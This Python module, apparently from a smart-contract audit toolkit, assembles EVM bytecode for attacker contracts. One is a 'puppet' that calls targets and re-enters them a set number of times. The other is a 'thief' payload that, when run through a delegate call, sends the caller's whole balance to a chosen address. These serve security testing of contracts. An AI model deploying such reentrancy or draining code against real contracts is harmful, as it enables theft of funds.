"""The attacker's contracts, assembled from instructions.

The *puppet* does what its master says, one call at a time, and then answers every call that
comes to it by one of three habits: it takes what it is given, it refuses, or it comes back with
a call of its own as often as it was told. The *thief* is code for a delegate call: whoever runs
it sends all it has to the puppet.
"""

from __future__ import annotations

from counterpoise.core.digest import keccak

__all__ = ["AGAIN_BYTES", "PUPPET", "REFUSE", "TAKE", "act", "deploying", "thief"]

MAGIC = keccak(b"counterpoise audit puppet")
AGAIN_BYTES = 256
"""Bytes of call data with which a puppet can come back."""
TAKE, REFUSE = 0, 2
LEAST_GAS = 20_000
"""A puppet that has less gas than this takes what it is given, and does nothing more."""

_WORDS = AGAIN_BYTES // 32
_HEAD = 7 * 32
_CODES = {
    "STOP": 0x00, "SUB": 0x03, "LT": 0x10, "EQ": 0x14, "ISZERO": 0x15, "CALLDATALOAD": 0x35,
    "CALLDATACOPY": 0x37, "CODECOPY": 0x39, "RETURNDATASIZE": 0x3D, "RETURNDATACOPY": 0x3E,
    "SELFBALANCE": 0x47, "POP": 0x50, "MSTORE": 0x52, "SLOAD": 0x54, "SSTORE": 0x55, "JUMPI": 0x57,
    "GAS": 0x5A, "JUMPDEST": 0x5B, "DUP1": 0x80, "CALL": 0xF1, "RETURN": 0xF3, "REVERT": 0xFD,
}  # fmt: skip

# Storage: 0 habit, 1 how often to come back, 2 bytes to come back with, 3 whom to, 16… the bytes.
_DEFAULT = f"""
  0 CALLDATALOAD {int.from_bytes(MAGIC, "big")} EQ @act JUMPI
  0 SLOAD {REFUSE} EQ @refuse JUMPI
  {LEAST_GAS} GAS LT @take JUMPI
  1 SLOAD ISZERO @answer JUMPI
  1 1 SLOAD SUB 1 SSTORE
  {{load}}
  0 0 2 SLOAD 0 0 3 SLOAD GAS CALL POP
:answer 1 0 MSTORE 32 0 RETURN
:take STOP
:refuse 0 0 REVERT
"""
_ACT = f"""
:act
  128 CALLDATALOAD 0 SSTORE 96 CALLDATALOAD 1 SSTORE
  160 CALLDATALOAD 2 SSTORE 32 CALLDATALOAD 3 SSTORE
  {{store}}
  192 CALLDATALOAD {_HEAD + AGAIN_BYTES} 0 CALLDATACOPY
  0 0 192 CALLDATALOAD 0 64 CALLDATALOAD 32 CALLDATALOAD GAS CALL
  @done JUMPI
  RETURNDATASIZE 0 0 RETURNDATACOPY RETURNDATASIZE 0 REVERT
:done STOP
"""


def assemble(text: str) -> bytes:
    """The bytes of a program: numbers are pushed, ``:name`` marks a target, ``@name`` pushes it.

    >>> assemble("1 0 MSTORE 32 0 RETURN").hex()
    '600160005260206000f3'
    """
    code, places, wanted = bytearray(), {}, []
    for word in text.split():
        if word.startswith(":"):
            places[word[1:]] = len(code)
            code.append(_CODES["JUMPDEST"])
        elif word.startswith("@"):
            wanted.append((len(code) + 1, word[1:]))
            code += b"\x61\0\0"
        elif word in _CODES:
            code.append(_CODES[word])
        else:
            number = int(word)
            raw = number.to_bytes(max(1, (number.bit_length() + 7) // 8), "big")
            code += bytes([0x5F + len(raw)]) + raw
    for at, name in wanted:
        code[at : at + 2] = places[name].to_bytes(2, "big")
    return bytes(code)


def _puppet() -> bytes:
    load = " ".join(f"{16 + n} SLOAD {32 * n} MSTORE" for n in range(_WORDS))
    store = " ".join(f"{_HEAD + 32 * n} CALLDATALOAD {16 + n} SSTORE" for n in range(_WORDS))
    return assemble(_DEFAULT.format(load=load) + _ACT.format(store=store))


PUPPET = _puppet()
"""Code of the puppet, as it lies on the chain."""


def thief(heir: bytes) -> bytes:
    """Code that sends all wei of whoever runs it to an address."""
    to = int.from_bytes(heir, "big")
    return assemble(f"0 0 0 0 SELFBALANCE {to} GAS CALL POP 1 0 MSTORE 32 0 RETURN")


def deploying(runtime: bytes) -> bytes:
    """Code that puts other code on the chain."""
    size = len(runtime)
    head = assemble(f"{size} 0 0 CODECOPY {size} 0 RETURN")
    start = len(head)
    return assemble(f"{size} {start} 0 CODECOPY {size} 0 RETURN").ljust(start, b"\0") + runtime


def act(
    target: bytes,
    data: bytes,
    *,
    value: int = 0,
    back: bytes = b"",
    times: int = 0,
    habit: int = TAKE,
) -> bytes:
    """Call data that makes a puppet call a target, and tells it how to answer calls from then on.

    Parameters
    ----------
    value :
        Wei that the puppet sends along.
    back, times :
        What it comes back to the target with when it is called, and how often.
    habit :
        `TAKE` or `REFUSE`.
    """
    words = [int.from_bytes(target, "big"), value, times, habit, len(back), len(data)]
    head = MAGIC + b"".join(word.to_bytes(32, "big") for word in words)
    return head + back.ljust(AGAIN_BYTES, b"\0") + data
